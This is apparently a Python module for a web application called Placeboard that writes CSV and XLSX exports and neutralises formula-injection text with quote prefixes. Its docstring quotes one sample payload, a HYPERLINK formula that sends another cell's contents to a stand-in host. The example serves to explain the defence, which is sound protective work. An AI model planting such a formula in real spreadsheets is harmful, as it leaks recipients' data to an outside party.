"""The one writer of every CSV and XLSX file Placeboard produces, safe against formula injection.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, after a leading
tab or carriage return) as a formula, so text someone typed, such as a commentary of
`=HYPERLINK("http://evil.example/?leak="&B2,"Details")`, could run or leak data when a partner opens
the download. As OWASP recommends, such text is written inert:

- in CSV, with a leading single quote (`'=HYPERLINK(...)`); `restore()` takes it off again, and the
  importer's reader calls it, so exporting and importing again changes nothing. Text that already
  starts with quotes before one of those characters gets one more quote, so `restore()` is exact;
- in XLSX, as a plain string cell (type `s`, never `f`) with Excel's "quote prefix" set, the same as
  typing a leading `'` in Excel: the file holds the text itself, shown and read back unchanged, and
  editing the cell does not turn it into a formula. Every text cell is a string cell, so `#N/A` is text too.

Numbers (int, Decimal, float) stay numbers, negative ones included, and dates stay dates: only text
is neutralised. CSV is written row by row (`iter_csv`) and XLSX in openpyxl's write-only mode, so
memory does not grow with the cells' styles or a sheet's rows beyond the file itself.
"""

import csv
import io
from copy import copy
from datetime import date, datetime
from decimal import Decimal

# The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_formula_like(text):
    """Whether a spreadsheet could run this text as a formula."""
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def neutralise(text):
    """Text for a CSV cell: a leading quote before anything a spreadsheet would run as a formula.

    Text made only of quotes and then such a character gains a quote too, so `restore` is its exact inverse."""
    stripped = text.lstrip(QUOTE)
    return QUOTE + text if is_formula_like(stripped) else text


def restore(text):
    """The text `neutralise` was given: one leading quote off, but only where `neutralise` added it."""
    if text.startswith(QUOTE) and is_formula_like(text.lstrip(QUOTE)):
        return text[1:]
    return text


def plain(value):
    """The exact figure as plain text, for files, form fields and the audit log: no thousands separators, no
    exponent and no trailing zeros (57.400000 → 57.4, 100 → 100); '' for None.

    The one rule for printing a figure plainly. It lives here, in core, so that this writer can use it
    without importing the performance app above it (tests/test_layers.py); the rest of Placeboard takes it
    as placeboard.performance.figures.plain."""
    if value is None:
        return ""
    text = format(Decimal(value).normalize(), "f")
    return "0" if text == "-0" else text


def number_text(value):
    """A number as plain text: Decimals by plain() (57.400000 → 57.4), ints as they are, floats by their
    shortest repr without a trailing .0."""
    if isinstance(value, Decimal):
        return plain(value)
    if isinstance(value, float):
        text = repr(value)
        return text[:-2] if text.endswith(".0") else text
    return str(value)


def is_number(value):
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def csv_text(value):
    """One value as CSV cell text: numbers as numbers, dates in ISO form, None blank, any other text made inert."""
    if value is None:
        return ""
    if is_number(value):
        return number_text(value)
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return neutralise(str(value))


class _Line:
    """A file-like that keeps only what csv.writer last wrote: one row at a time."""

    def __init__(self):
        self.text = ""

    def write(self, text):
        self.text = text


def iter_csv(rows, *, bom=False, lineterminator="\r\n"):
    """The CSV text of rows (iterables of values), one row at a time, for a streaming response.

    With `bom`, a UTF-8 byte-order mark comes first, so Excel reads the file as UTF-8."""
    line = _Line()
    writer = csv.writer(line, lineterminator=lineterminator)
    if bom:
        yield "\ufeff"
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
        yield line.text


def write_csv(out, rows, **kwargs):
    """Writes rows as CSV to a text file-like (such as an HttpResponse)."""
    for text in iter_csv(rows, **kwargs):
        out.write(text)


def csv_bytes(rows, **kwargs):
    """The whole CSV as UTF-8 bytes."""
    out = io.StringIO()
    write_csv(out, rows, **kwargs)
    return out.getvalue().encode("utf-8")


def xlsx_value(value):
    """A value as openpyxl should store it: Decimals as int or float when the float reads back as the same
    decimal; a figure with more digits than a float keeps is written as its exact text, never rounded."""
    if isinstance(value, Decimal):
        if value == value.to_integral_value():
            return int(value)
        number = float(value)
        return number if Decimal(repr(number)) == value else plain(value)
    return value


class Workbook:
    """An XLSX workbook in openpyxl's write-only mode whose text cells are never formulas.

        book = Workbook()
        sheet = book.sheet("Return", widths=[12, 40], freeze="A2")
        sheet.append(["code", "title"], font=Font(bold=True))
        sheet.append(["=1", Decimal("-2.5")])
        data = book.to_bytes()

    Widths and frozen panes are given when the sheet is made, because a write-only sheet writes its
    settings before its first row."""

    def __init__(self):
        # lazy: openpyxl takes ~150 ms to load and only XLSX needs it (figures.py, on every page, imports this)
        from openpyxl import Workbook as OpenpyxlWorkbook

        self.workbook = OpenpyxlWorkbook(write_only=True)

    def sheet(self, title, *, widths=(), freeze=None):
        from openpyxl.utils import get_column_letter  # lazy: openpyxl, as above

        ws = self.workbook.create_sheet(title[:31])
        for index, width in enumerate(widths, start=1):
            if width:
                ws.column_dimensions[get_column_letter(index)].width = width
        if freeze:
            ws.freeze_panes = freeze
        return Sheet(ws)

    def to_bytes(self):
        out = io.BytesIO()
        self.workbook.save(out)
        return out.getvalue()


class Sheet:
    def __init__(self, ws):
        self.ws = ws
        self.rows = 0
        # {(id(font), id(fill), id(alignment), number format): (font, fill, alignment, style)}: openpyxl hashes every style
        # object set on every cell (a third of a 300-row report's time); a combination already used is
        # copied instead, as openpyxl copies styles itself. The objects are kept so their ids stay theirs.
        self._styles = {}

    def cell(self, value, *, font=None, fill=None, alignment=None):
        """A cell for `append`: text always a string cell, formula-like text with the quote prefix."""
        from openpyxl.cell import WriteOnlyCell  # lazy: openpyxl, as above

        cell = WriteOnlyCell(self.ws, value=xlsx_value(value))
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl makes "=..." a formula and "#N/A" an error otherwise
        key = (id(font), id(fill), id(alignment), getattr(cell._style, "numFmtId", 0))  # a date sets its format
        known = self._styles.get(key)
        if known is not None:
            cell._style = copy(known[3])
        else:
            if font is not None:
                cell.font = font
            if fill is not None:
                cell.fill = fill
            if alignment is not None:
                cell.alignment = alignment
            self._styles[key] = (font, fill, alignment, copy(cell._style))
        if isinstance(value, str) and is_formula_like(value):
            cell.quotePrefix = True
        return cell

    def append(self, values, *, font=None, fill=None, alignment=None):
        """Appends a row; values may be plain values or cells from `cell()` (to style one cell)."""
        from openpyxl.cell.cell import Cell  # lazy: openpyxl, as above

        self.ws.append([v if isinstance(v, Cell) else self.cell(v, font=font, fill=fill, alignment=alignment)
                        for v in values])
        self.rows += 1
        return self.rows
